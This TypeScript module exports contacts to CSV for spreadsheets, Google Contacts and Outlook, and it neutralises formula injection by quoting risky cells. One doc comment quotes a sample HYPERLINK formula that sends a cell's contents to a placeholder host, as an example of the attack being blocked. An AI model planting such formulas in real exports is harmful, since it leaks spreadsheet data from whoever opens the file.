import type { PhoneKind, SavedContact } from '../../shared/contact.js';
import { splitAddress } from './address.js';
import { plainText, safeEmail, safePhone, safeUrl } from './text.js';
import { displayName } from './vcard-writer.js';

/**
 * A cell a spreadsheet will not run. A value starting with = + - @ (or a tab or CR, which
 * plainText already turned into a space or dropped) is a formula to Excel and LibreOffice
 * (`+1+HYPERLINK("http://x.example/?"&A1)` from a QR code), so it gets a leading
 * apostrophe (OWASP's advice). The one exception is a phone number made only of digits,
 * spaces, parentheses, dots and dashes after its plus (and our " ext. 123"): such a "formula" can call no
 * function, and quoting it would put an apostrophe into every number Google or Outlook
 * imports.
 */
export function csvCell(raw: string): string {
  const v = plainText(raw);
  const harmlessPhone = /^\+[\d ().-]+(?: ext\. \d+)?$/.test(v);
  const safe = /^\s*[=+\-@]/.test(v) && !harmlessPhone ? `'${v}` : v;
  return /[",\r\n;]/.test(safe) || safe !== v || /^\s|\s$/.test(safe) ? `"${safe.replace(/"/g, '""')}"` : safe;
}

function toRows(header: string[], rows: string[][], bom: boolean): string {
  return (bom ? '\uFEFF' : '') + [header, ...rows].map((r) => r.map(csvCell).join(',')).join('\r\n') + '\r\n';
}

const phoneText = (p: SavedContact['phones'][number]) => {
  const ext = p.ext ? safePhone(p.ext) : '';
  return `${safePhone(p.value)}${ext ? ` ext. ${ext}` : ''}`;
};
const labels = (c: SavedContact) => [...new Set([c.event, ...c.tags].map((s) => s.trim()).filter(Boolean))];

const COLUMNS: [string, (c: SavedContact) => string][] = [
  ['Name', (c) => c.name],
  ['Given name', (c) => c.givenName],
  ['Middle name', (c) => c.middleName],
  ['Family name', (c) => c.familyName],
  ['Title', (c) => c.title],
  ['Company', (c) => c.company],
  ['Department', (c) => c.department],
  ['Work phone', (c) => phones(c, 'work')],
  ['Mobile phone', (c) => phones(c, 'mobile')],
  ['Fax', (c) => phones(c, 'fax')],
  ['Other phone', (c) => phones(c, 'other')],
  ['E-mail', (c) => c.emails.join('; ')],
  ['Website', (c) => c.websites.join('; ')],
  ['Address', (c) => c.address],
  ['Notes', (c) => c.notes],
  ['Tags', (c) => c.tags.join('; ')],
  ['Event', (c) => c.event],
  ['Recognition', (c) => c.recognitionMethod],
  ['Created', (c) => c.createdAt],
  ['UID', (c) => c.uid],
];

function phones(c: SavedContact, kind: string): string {
  return c.phones
    .filter((p) => p.kind === kind)
    .map(phoneText)
    .join('; ');
}

/** The desk's own CSV (everything it knows, for spreadsheets), with a UTF-8 byte-order mark so Excel shows Cyrillic. */
export function toCsv(contacts: SavedContact[]): string {
  return toRows(
    COLUMNS.map(([h]) => h),
    contacts.map((c) => COLUMNS.map(([, get]) => get(c))),
    true,
  );
}

const GOOGLE_PHONE_TYPE: Record<PhoneKind, string> = { work: 'Work', mobile: 'Mobile', fax: 'Work Fax', other: 'Other' };

/**
 * Google Contacts' CSV (the "Google CSV" column set its import reads): one value per
 * column, as many numbered Phone / E-mail / Website groups as the widest contact needs.
 * No byte-order mark: Google reads UTF-8 and would take one as part of the first header.
 */
export function toGoogleCsv(contacts: SavedContact[]): string {
  const n = (f: (c: SavedContact) => unknown[]) => Math.max(1, ...contacts.map((c) => f(c).length));
  const nPhones = n((c) => c.phones);
  const nEmails = n((c) => c.emails);
  const nSites = n((c) => c.websites);
  const header = ['Name', 'Given Name', 'Additional Name', 'Family Name', 'Notes', 'Group Membership'];
  for (let i = 1; i <= nEmails; i++) header.push(`E-mail ${i} - Type`, `E-mail ${i} - Value`);
  for (let i = 1; i <= nPhones; i++) header.push(`Phone ${i} - Type`, `Phone ${i} - Value`);
  header.push('Address 1 - Type', 'Address 1 - Formatted', 'Address 1 - Street', 'Address 1 - City', 'Address 1 - Region', 'Address 1 - Postal Code', 'Address 1 - Country');
  header.push('Organization 1 - Type', 'Organization 1 - Name', 'Organization 1 - Title', 'Organization 1 - Department');
  for (let i = 1; i <= nSites; i++) header.push(`Website ${i} - Type`, `Website ${i} - Value`);

  const rows = contacts.map((c) => {
    const emails = c.emails.map(safeEmail).filter(Boolean);
    const sites = c.websites.map(safeUrl).filter(Boolean);
    // Google separates several groups in one cell with " ::: "; "* myContacts" makes them show in the main list.
    const groups = ['* myContacts', ...labels(c).map((l) => l.replace(/:::/g, ':'))].join(' ::: ');
    const row = [displayName(c), c.givenName, c.middleName, c.familyName, c.notes, groups];
    for (let i = 0; i < nEmails; i++) row.push(emails[i] ? 'Work' : '', emails[i] ?? '');
    for (let i = 0; i < nPhones; i++) {
      const p = c.phones[i];
      row.push(p ? GOOGLE_PHONE_TYPE[p.kind] : '', p ? phoneText(p) : '');
    }
    const a = splitAddress(c.address);
    row.push(c.address.trim() ? 'Work' : '', plainText(c.address).trim(), a.street, a.city, a.region, a.postcode, a.country);
    row.push(c.company || c.title ? 'Work' : '', c.company, c.title, c.department);
    for (let i = 0; i < nSites; i++) row.push(sites[i] ? 'Work' : '', sites[i] ?? '');
    return row;
  });
  return toRows(header, rows, false);
}

const OUTLOOK_PHONE_SLOTS: Record<PhoneKind, string[]> = {
  work: ['Business Phone', 'Business Phone 2'],
  mobile: ['Mobile Phone'],
  fax: ['Business Fax'],
  other: ['Other Phone'],
};
const OUTLOOK_HEADER = [
  'First Name',
  'Middle Name',
  'Last Name',
  'Company',
  'Department',
  'Job Title',
  'Business Street',
  'Business City',
  'Business State',
  'Business Postal Code',
  'Business Country/Region',
  'Business Phone',
  'Business Phone 2',
  'Mobile Phone',
  'Business Fax',
  'Other Phone',
  'E-mail Address',
  'E-mail Display Name',
  'E-mail 2 Address',
  'E-mail 3 Address',
  'Web Page',
  'Categories',
  'Notes',
];

/**
 * Outlook's CSV (the column names of its own export, which its import maps by name).
 * Outlook has fixed slots (two business phones, one mobile, one fax, three e-mails, one
 * web page); what does not fit is listed in Notes rather than lost.
 */
export function toOutlookCsv(contacts: SavedContact[]): string {
  const rows = contacts.map((c) => {
    const cell: Record<string, string> = {};
    const overflow: string[] = [];
    for (const p of c.phones) {
      const slot = [...OUTLOOK_PHONE_SLOTS[p.kind], 'Other Phone'].find((s) => !cell[s]);
      if (slot) cell[slot] = phoneText(p);
      else overflow.push(`Phone (${p.kind}): ${phoneText(p)}`);
    }
    const emails = c.emails.map(safeEmail).filter(Boolean);
    ['E-mail Address', 'E-mail 2 Address', 'E-mail 3 Address'].forEach((k, i) => (cell[k] = emails[i] ?? ''));
    for (const e of emails.slice(3)) overflow.push(`E-mail: ${e}`);
    if (emails[0]) cell['E-mail Display Name'] = `${displayName(c)} (${emails[0]})`;
    const sites = c.websites.map(safeUrl).filter(Boolean);
    cell['Web Page'] = sites[0] ?? '';
    for (const s of sites.slice(1)) overflow.push(`Website: ${s}`);
    const a = splitAddress(c.address);
    Object.assign(cell, {
      'First Name': c.givenName || (c.familyName ? '' : c.name),
      'Middle Name': c.middleName,
      'Last Name': c.familyName,
      Company: c.company,
      Department: c.department,
      'Job Title': c.title,
      'Business Street': a.street,
      'Business City': a.city,
      'Business State': a.region,
      'Business Postal Code': a.postcode,
      'Business Country/Region': a.country,
      // Outlook's own export separates categories with ";".
      Categories: labels(c).map((l) => l.replace(/;/g, ',')).join(';'),
      Notes: [c.notes.trim(), ...overflow].filter(Boolean).join('\n'),
    });
    return OUTLOOK_HEADER.map((h) => cell[h] ?? '');
  });
  return toRows(OUTLOOK_HEADER, rows, true);
}
